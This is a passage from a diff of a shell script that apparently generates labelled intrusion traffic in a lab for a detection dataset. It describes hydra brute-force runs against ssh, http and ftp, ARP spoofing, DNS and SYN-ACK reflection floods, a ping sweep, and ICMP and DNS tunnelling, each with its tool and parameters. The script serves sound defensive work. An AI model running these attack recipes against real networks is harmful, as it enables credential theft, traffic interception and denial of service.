+  expect 300 "answers" 'udp src port 53'
+}
+check_dns_tunnel_dig() { check_dns_tunnel_iodine; }
+
+run healthy-logins none \
+  "5 ssh logins (one command each), 5 HTTP fetches with the right basic-auth credentials, 5 DNS lookups and 5 pings from one client" \
+  healthy_logins
+run hydra-ssh brute-force "hydra against sshd: 40 wrong passwords then the right one, 4 tasks" hydra_ssh
+run hydra-http brute-force "hydra http-get against nginx basic auth on /admin/: 60 wrong passwords then the right one, 4 tasks" \
+  hydra_http
+run hydra-ftp brute-force "hydra against vsftpd (PAM login): 40 wrong passwords then the right one, 4 tasks" hydra_ftp
+run arpspoof arp-spoofing \
+  "dsniff arpspoof claims the gateway 10.97.0.1 at the attacker's MAC to the victim for 8 s while it pings the gateway" \
+  arpspoof_victim
+run dns-reflection dns-amplification \
+  "scapy: 2000 unsolicited DNS responses from 50 spoofed reflectors in 3 s, the 2.6 KB TXT ones IP-fragmented" \
+  dns_reflection
+run synack-reflection syn-ack-reflection \
+  "hping3: 3000 unsolicited SYN-ACKs from random sources, source port 80 then 443, at 1000 a second" \
+  synack_reflection
+run ping-sweep ping-sweep "nmap -sn -PE of 60 addresses, 30 of which answer" ping_sweep
+run icmp-tunnel icmp-tunneling "scapy: 300 echo requests with 40-1000 random bytes each in 3 s, answered" icmp_tunnel
+if [ -z "${NT_INTRUSIONS_NO_TUN:-}" ] && tun_works; then
+  run dns-tunnel dns-tunneling \
+    "iodine through iodined (NULL queries under t.tunnel.test): 5 pings, a 48 KB upload and a 32 KB download through the tunnel" \
+    dns_tunnel_iodine
+else
+  run dns-tunnel dns-tunneling \
+    "no tun device, so dig instead of iodine: 400 TXT, NULL and CNAME queries with long base32 labels under t.tunnel.test" \
+    dns_tunnel_dig
+fi
+
+mv "$WORK/manifest.tsv" "$OUT/manifest.tsv"
